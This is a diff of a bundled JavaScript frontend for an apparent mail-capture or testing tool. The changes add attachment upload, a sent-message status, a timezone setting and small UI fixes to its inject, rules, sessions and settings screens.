-        /* @__PURE__ */ a(Link, { to: { id, tab: "delivery" }, children: /* @__PURE__ */ a("code", { children: id }) }),
-        " "
-      ] }, id))
-    ] }),
+    sent.length > 0 && /* @__PURE__ */ a(Sent, { ids: sent }),
     /* @__PURE__ */ a("p", { class: "answers", children: [
       /* @__PURE__ */ a("label", { class: "times", children: [
         t("inject.times"),
@@ -480,9 +756,47 @@ function InjectSheet({ onClose }) {
       ] }),
       /* @__PURE__ */ a("span", { class: "gap" }),
       /* @__PURE__ */ a(Button, { label: t("act.close"), onClick: onClose }),
-      /* @__PURE__ */ a(Button, { label: t("inject.send"), kind: "primary", icon: "send", submit: !0, disabled: busy })
+      /* @__PURE__ */ a(Button, { label: t("inject.send"), kind: "primary", remote: !0, icon: "send", submit: !0, disabled: busy })
     ] })
   ] }) });
+}
+function Field({ name, value, set, required, first }) {
+  return /* @__PURE__ */ a("label", { children: [
+    name,
+    /* @__PURE__ */ a("input", { class: "inp", value, required, autofocus: first, autocomplete: "off", spellcheck: !1, onInput: (event) => set(event.currentTarget.value) })
+  ] });
+}
+function Files({ files, set }) {
+  let add = async (event) => {
+    let input = event.currentTarget, more = await Promise.all([...input.files ?? []].map(enclose));
+    input.value = "", set([...files, ...more]);
+  };
+  return /* @__PURE__ */ a("div", { class: "files", children: [
+    /* @__PURE__ */ a("label", { class: "btn", children: [
+      /* @__PURE__ */ a(Icon, { name: "clip" }),
+      " ",
+      t("inject.attach"),
+      /* @__PURE__ */ a("input", { type: "file", multiple: !0, class: "sr", onChange: (event) => {
+        add(event);
+      } })
+    ] }),
+    files.map((file, at2) => /* @__PURE__ */ a("span", { class: "file", children: [
+      /* @__PURE__ */ a("bdi", { children: file.filename }),
+      " ",
+      /* @__PURE__ */ a("span", { class: "dim", children: size(file.size) }),
+      /* @__PURE__ */ a(Button, { label: t("inject.unattach", { name: file.filename }), icon: "close", bare: !0, kind: "quiet", onClick: () => set(files.filter((_, other) => other !== at2)) })
+    ] }, at2))
+  ] });
+}
+function Sent({ ids }) {
+  return /* @__PURE__ */ a("p", { class: "ok", role: "status", children: [
+    t("inject.sent"),
+    " ",
+    ids.map((id) => /* @__PURE__ */ a("span", { onClick: () => layer.value = "", children: [
+      /* @__PURE__ */ a(Link, { to: { id, tab: "delivery" }, children: /* @__PURE__ */ a("code", { children: id }) }),
+      " "
+    ] }, id))
+  ] });
 }
 
 // src/views/layers/LinkSheet.tsx
@@ -535,7 +849,7 @@ function MineSheet({ onClose }) {
 }
 
 // src/views/layers/Palette.tsx
-var MOST = 6, PREFIX = { ">": "command", "@": "rcpt", "#": "tag" };
+var MOST3 = 6, PREFIX = { ">": "command", "@": "rcpt", "#": "tag" };
 function score(text2, typed) {
   let [low, want] = [text2.toLowerCase(), typed.toLowerCase().replace(/\s+/g, "")];
   if (!want) return 1;
@@ -571,13 +885,13 @@ function recipients(found) {
   return found.map(({ value, total }) => ({ group: "rcpt", text: value, icon: "user", n: total, run: () => search(`rcpt:${quoted(value)}`) }));
 }
 function rank(all, typed) {
-  let groups = /* @__PURE__ */ new Map();
+  let groups2 = /* @__PURE__ */ new Map();
   for (let entry of all) {
     let fit = score(entry.text, typed);
-    fit > 0 && groups.set(entry.group, [...groups.get(entry.group) ?? [], { entry, fit }]);
+    fit > 0 && groups2.set(entry.group, [...groups2.get(entry.group) ?? [], { entry, fit }]);
   }
   let best = (list) => Math.max(...list.map(({ fit }) => fit));
-  return [...groups.values()].map((list) => typed ? list.sort((a2, b) => b.fit - a2.fit) : list).sort((a2, b) => typed ? best(b) - best(a2) : 0).flatMap((list) => list.slice(0, groups.size === 1 ? 40 : MOST).map(({ entry }) => entry));
+  return [...groups2.values()].map((list) => typed ? list.sort((a2, b) => b.fit - a2.fit) : list).sort((a2, b) => typed ? best(b) - best(a2) : 0).flatMap((list) => list.slice(0, groups2.size === 1 ? 40 : MOST3).map(({ entry }) => entry));
 }
 function Palette({ onClose }) {
   let [text2, setText] = d(""), [found, setFound] = d(facets2.recipients.value), [at2, setAt] = d(0), box = T(null), only = PREFIX[text2[0] ?? ""], typed = (only ? text2.slice(1) : text2).trim();
@@ -681,7 +995,7 @@ function ViewSheet({ onClose }) {
         t("view.name"),
         /* @__PURE__ */ a("span", { class: "one-line", children: [
           /* @__PURE__ */ a("input", { class: "inp", value: name, maxLength: 100, autofocus: !0, autocomplete: "off", onInput: (event) => setName(event.currentTarget.value) }),
-          /* @__PURE__ */ a(Button, { label: t("view.keep"), kind: "primary", submit: !0, disabled: !name.trim() })
+          /* @__PURE__ */ a(Button, { remote: !0, label: t("view.keep"), kind: "primary", submit: !0, disabled: !name.trim() })
         ] })
       ] }),
       /* @__PURE__ */ a("p", { class: "dim", children: /* @__PURE__ */ a("code", { children: [
@@ -774,7 +1088,7 @@ function Editor({ table, list, asked, onSaved }) {
         changed(one) && /* @__PURE__ */ a("span", { class: "tag draft", children: t("rules.draft") })
       ] }),
       changed(one) && /* @__PURE__ */ a(Button, { label: t("rules.discard"), kind: "quiet", onClick: read }),
-      list.writable && /* @__PURE__ */ a(Button, { label: t("rules.save"), kind: "primary", disabled: !changed(one) || !clean || busy, onClick: () => {
+      list.writable && /* @__PURE__ */ a(Button, { remote: !0, label: t("rules.save"), kind: "primary", disabled: !changed(one) || !clean || busy, onClick: () => {
         save2();
       } })
     ] }),
@@ -844,9 +1158,9 @@ function Impact({ impact }) {
 }
 
 // src/views/rules/Many.tsx
-var MOST2 = 1e3;
+var MOST4 = 1e3;
 function Many({ draft: draft2 }) {
-  let [text2, setText] = d(""), [answers, setAnswers] = d([]), addresses2 = text2.split(/[\s,;]+/).filter(Boolean).slice(0, MOST2), ask = () => askRules({ addresses: addresses2, ...draft2 }).then(({ answers: all }) => setAnswers(all), failed);
+  let [text2, setText] = d(""), [answers, setAnswers] = d([]), addresses2 = text2.split(/[\s,;]+/).filter(Boolean).slice(0, MOST4), ask = () => askRules({ addresses: addresses2, ...draft2 }).then(({ answers: all }) => setAnswers(all), failed);
   return /* @__PURE__ */ a("details", { class: "many", children: [
     /* @__PURE__ */ a("summary", { children: t("rules.many") }),
     /* @__PURE__ */ a("label", { children: [
@@ -1020,7 +1334,7 @@ function RulesScreen() {
       tools: /* @__PURE__ */ a($, { children: [
         /* @__PURE__ */ a("span", { class: "gap" }),
         known2?.loadedAt && /* @__PURE__ */ a("span", { class: "dim", children: t("rules.loaded", { time: moment(Date.parse(known2.loadedAt), Date.now()) }) }),
-        /* @__PURE__ */ a(Button, { label: t("rules.reload"), icon: "reload", onClick: () => {
+        /* @__PURE__ */ a(Button, { remote: !0, label: t("rules.reload"), icon: "reload", onClick: () => {
           reload();
         } })
       ] }),
@@ -1245,11 +1559,11 @@ function SessionsScreen() {
 }
 var KINDS3 = ["", "is:refused", "is:empty"];
 function Filter() {
-  let { q } = route.value, timer = T(0), kinds = KINDS3.map((value) => ({ value, text: t(value === "" ? "sessions.all" : value === "is:refused" ? "sessions.refused" : "sessions.empty") })), words2 = q.split(/\s+/).filter((word) => word && !KINDS3.includes(word)), kind = KINDS3.find((one) => one && q.split(/\s+/).includes(one)) ?? "", say = (parts) => go({ q: parts.filter(Boolean).join(" ") }, !0), type = (text2) => {
-    clearTimeout(timer.current), timer.current = window.setTimeout(() => say([kind, ...text2.split(/\s+/)]), 150);
+  let { q } = route.value, timer = T(0), kinds = KINDS3.map((value) => ({ value, text: t(value === "" ? "sessions.all" : value === "is:refused" ? "sessions.refused" : "sessions.empty") })), words2 = q.split(/\s+/).filter((word) => word && !KINDS3.includes(word)), kind = KINDS3.find((one) => one && q.split(/\s+/).includes(one)) ?? "", say2 = (parts) => go({ q: parts.filter(Boolean).join(" ") }, !0), type = (text2) => {
+    clearTimeout(timer.current), timer.current = window.setTimeout(() => say2([kind, ...text2.split(/\s+/)]), 150);
   };
   return /* @__PURE__ */ a($, { children: [
-    /* @__PURE__ */ a(Segments, { label: t("sessions.kind"), options: kinds, value: kind, onChange: (value) => say([value, ...words2]) }),
+    /* @__PURE__ */ a(Segments, { label: t("sessions.kind"), options: kinds, value: kind, onChange: (value) => say2([value, ...words2]) }),
     /* @__PURE__ */ a("input", { class: "inp", type: "search", "aria-label": t("sessions.filter"), placeholder: t("sessions.filterHint"), defaultValue: words2.join(" "), onInput: (event) => type(event.currentTarget.value) })
   ] });
 }
@@ -1372,7 +1686,7 @@ function Line2({ binding, editing, edit }) {
 }
 var OWN = ["Tab", "Shift+Tab", "Shift", "Control", "Alt", "Meta", "Enter", "CapsLock"];
 function Capture({ binding, done }) {
-  let [prefix, setPrefix] = d(""), [clash, setClash] = d(), press = (event) => {
+  let [prefix, setPrefix] = d(""), [clash, setClash] = d(), asking = T(!1), press = (event) => {
     let pressed = stroke(event);
     if (event.key === "Tab" || OWN.includes(event.key)) return;
     if (event.preventDefault(), event.stopPropagation(), event.key === "Escape") return done();
@@ -1380,7 +1694,8 @@ function Capture({ binding, done }) {
     let key = prefix + pressed;
     setPrefix("");
     let by = taken(key, binding);
-    if (by) return setClash({ key, by });
+    if (by)
+      return asking.current = !0, setClash({ key, by });
     put2(binding, key), done();
   };
   if (clash) {
@@ -1393,7 +1708,7 @@ function Capture({ binding, done }) {
       /* @__PURE__ */ a(Button, { label: t("act.cancel"), kind: "quiet", onClick: done })
     ] });
   }
-  return /* @__PURE__ */ a("input", { class: "inp capture", readOnly: !0, autofocus: !0, "aria-label": t("keys.press"), placeholder: prefix ? t("keys.second") : t("keys.press"), ref: (element) => element?.focus(), onKeyDown: press, onBlur: () => clash ?? done() });
+  return /* @__PURE__ */ a("input", { class: "inp capture", readOnly: !0, autofocus: !0, "aria-label": t("keys.press"), placeholder: prefix ? t("keys.second") : t("keys.press"), ref: (element) => element?.focus(), onKeyDown: press, onBlur: () => asking.current || done() });
 }
 
 // src/views/settings/SettingsScreen.tsx
@@ -1420,21 +1735,28 @@ function SettingsScreen() {
     /* @__PURE__ */ a(Server, {})
   ] }) });
 }
-function Field({ name, children }) {
+function Field2({ name, children }) {
   return /* @__PURE__ */ a("p", { class: "setting", children: [
     /* @__PURE__ */ a("span", { children: name }),
     children
   ] });
 }
 function Look() {
-  let { theme, density, pane, clock, announce } = prefs.value;
+  let { theme, density, pane, clock, zone, announce } = prefs.value;
   return /* @__PURE__ */ a("section", { children: [
     /* @__PURE__ */ a("h2", { children: t("settings.look") }),
     /* @__PURE__ */ a("div", { children: [
-      /* @__PURE__ */ a(Field, { name: t("theme.label"), children: /* @__PURE__ */ a(Segments, { label: t("theme.label"), options: THEMES.map((value) => ({ value, text: t(`theme.${value}`) })), value: theme, onChange: (value) => prefer({ theme: value }) }) }),
-      /* @__PURE__ */ a(Field, { name: t("settings.density"), children: /* @__PURE__ */ a(Segments, { label: t("settings.density"), options: DENSITIES.map((value) => ({ value, text: t("settings.lines", { n: value }) })), value: density, onChange: (value) => prefer({ density: value }) }) }),
-      /* @__PURE__ */ a(Field, { name: t("settings.pane"), children: /* @__PURE__ */ a(Segments, { label: t("settings.pane"), options: PANES.map((value) => ({ value, text: t(`settings.${value}`) })), value: pane, onChange: (value) => prefer({ pane: value }) }) }),
-      /* @__PURE__ */ a(Field, { name: t("settings.clock"), children: /* @__PURE__ */ a(Segments, { label: t("settings.clock"), options: CLOCKS.map((value) => ({ value, text: `${value} h` })), value: clock, onChange: (value) => prefer({ clock: value }) }) }),
+      /* @__PURE__ */ a(Field2, { name: t("theme.label"), children: /* @__PURE__ */ a(Segments, { label: t("theme.label"), options: THEMES.map((value) => ({ value, text: t(`theme.${value}`) })), value: theme, onChange: (value) => prefer({ theme: value }) }) }),
+      /* @__PURE__ */ a(Field2, { name: t("settings.density"), children: /* @__PURE__ */ a(Segments, { label: t("settings.density"), options: DENSITIES.map((value) => ({ value, text: t("settings.lines", { n: value }) })), value: density, onChange: (value) => prefer({ density: value }) }) }),
+      /* @__PURE__ */ a(Field2, { name: t("settings.pane"), children: /* @__PURE__ */ a(Segments, { label: t("settings.pane"), options: PANES.map((value) => ({ value, text: t(`settings.${value}`) })), value: pane, onChange: (value) => prefer({ pane: value }) }) }),
+      /* @__PURE__ */ a(Field2, { name: t("settings.clock"), children: /* @__PURE__ */ a(Segments, { label: t("settings.clock"), options: CLOCKS.map((value) => ({ value, text: `${value} h` })), value: clock, onChange: (value) => prefer({ clock: value }) }) }),
+      /* @__PURE__ */ a("label", { class: "setting", children: [
+        /* @__PURE__ */ a("span", { children: t("settings.zone") }),
+        /* @__PURE__ */ a("select", { class: "inp", value: zone, onChange: (event) => prefer({ zone: event.currentTarget.value }), children: [
+          /* @__PURE__ */ a("option", { value: "", children: t("settings.zoneOwn", { zone: Intl.DateTimeFormat().resolvedOptions().timeZone }) }),
+          ["UTC", ...Intl.supportedValuesOf("timeZone").filter((one) => one !== "UTC")].map((one) => /* @__PURE__ */ a("option", { children: one }, one))
+        ] })
+      ] }),
       /* @__PURE__ */ a("label", { class: "setting", children: [
         /* @__PURE__ */ a("span", { children: t("settings.announce") }),
         /* @__PURE__ */ a("input", { type: "checkbox", checked: announce, onChange: (event) => prefer({ announce: event.currentTarget.checked }) })
@@ -1478,8 +1800,8 @@ function Preview() {
   return /* @__PURE__ */ a("section", { children: [
     /* @__PURE__ */ a("h2", { children: t("settings.preview") }),
     /* @__PURE__ */ a("div", { children: [
-      /* @__PURE__ */ a(Field, { name: t("html.width"), children: /* @__PURE__ */ a(Segments, { label: t("html.width"), options: WIDTHS.map((value) => ({ value, text: value ? String(value) : t("html.fit") })), value: width, onChange: (value) => prefer({ width: value }) }) }),
-      /* @__PURE__ */ a(Field, { name: t("html.scheme"), children: /* @__PURE__ */ a(Segments, { label: t("html.scheme"), options: SCHEMES.map((value) => ({ value, text: t(`html.${value}`) })), value: scheme, onChange: (value) => prefer({ scheme: value }) }) }),
+      /* @__PURE__ */ a(Field2, { name: t("html.width"), children: /* @__PURE__ */ a(Segments, { label: t("html.width"), options: WIDTHS.map((value) => ({ value, text: value ? String(value) : t("html.fit") })), value: width, onChange: (value) => prefer({ width: value }) }) }),
+      /* @__PURE__ */ a(Field2, { name: t("html.scheme"), children: /* @__PURE__ */ a(Segments, { label: t("html.scheme"), options: SCHEMES.map((value) => ({ value, text: t(`html.${value}`) })), value: scheme, onChange: (value) => prefer({ scheme: value }) }) }),
       /* @__PURE__ */ a(Button, { label: t("settings.reset"), kind: "quiet", onClick: reset })
     ] })
   ] });
@@ -1588,7 +1910,7 @@ function since(text2) {
   return new Intl.NumberFormat("en", { style: "unit", unit, unitDisplay: "short" }).format(Math.floor(past / span));
 }
 function All({ data, span }) {
-  let start2 = Date.parse(data.start), arrivals = data.arrivals.map((n, at2) => ({ text: instant(start2 + at2 * data.step).replace(/[:.]\d\d\.\d+$/, ""), n }));
+  let start = Date.parse(data.start), arrivals = data.arrivals.map((n, at2) => ({ text: instant(start + at2 * data.step).replace(/[:.]\d\d\.\d+$/, ""), n }));
   return /* @__PURE__ */ a("div", { class: "charts", children: [
     /* @__PURE__ */ a(Area, { title: t(`stats.per.${span}`), bars: arrivals, wide: !0 }),
     /* @__PURE__ */ a(Bars, { title: t("stats.sizes"), bars: data.sizes.map((bar, at2) => ({ text: band(data.sizes[at2 - 1]?.below, bar.below), n: bar.total })) }),
